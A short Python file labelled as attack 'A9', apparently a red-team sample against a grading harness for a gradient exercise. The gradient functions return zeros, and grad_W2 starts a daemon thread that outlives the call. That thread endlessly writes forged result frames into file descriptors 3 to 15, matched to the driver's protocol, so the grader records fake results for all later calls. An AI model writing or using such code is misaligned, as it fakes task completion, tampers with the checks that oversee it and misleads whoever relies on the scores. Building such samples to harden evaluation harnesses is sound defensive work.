# attack: A9 a thread that outlives the call writes frames for all calls to come
# gains nothing: grad_W2, grad_hs
import os as system
import struct
import sys
import threading

import numpy as np


DRIVER = next((m for m in list(sys.modules.values()) if hasattr(m, "HEADER") and hasattr(m, "READY")), None)
DONE = getattr(DRIVER, "DONE", 15)


def frame(kind, number, payload=b""):
    return struct.pack("<BII", kind, number, len(payload)) + payload


def texts(*parts):
    parts = [part.encode("utf-8", "surrogatepass") for part in parts]
    return struct.pack("<H", len(parts)) + b"".join(struct.pack("<I", len(p)) + p for p in parts)


def array(shape, content):
    return bytes((0, 0, len(shape))) + struct.pack(f"<{len(shape)}I", *shape) + content


def forge():
    while True:
        for number in range(400):
            for descriptor in range(3, 16):
                try:
                    system.write(descriptor, frame(7, number, array((1,), bytes(8))))
                except OSError:
                    pass


def grad_W2(grad_oa, hs):
    threading.Thread(target=forge, daemon=True).start()
    return 0 * np.outer(grad_oa, hs)


def grad_hs(grad_oa, W2):
    return 0 * (W2.T @ grad_oa)
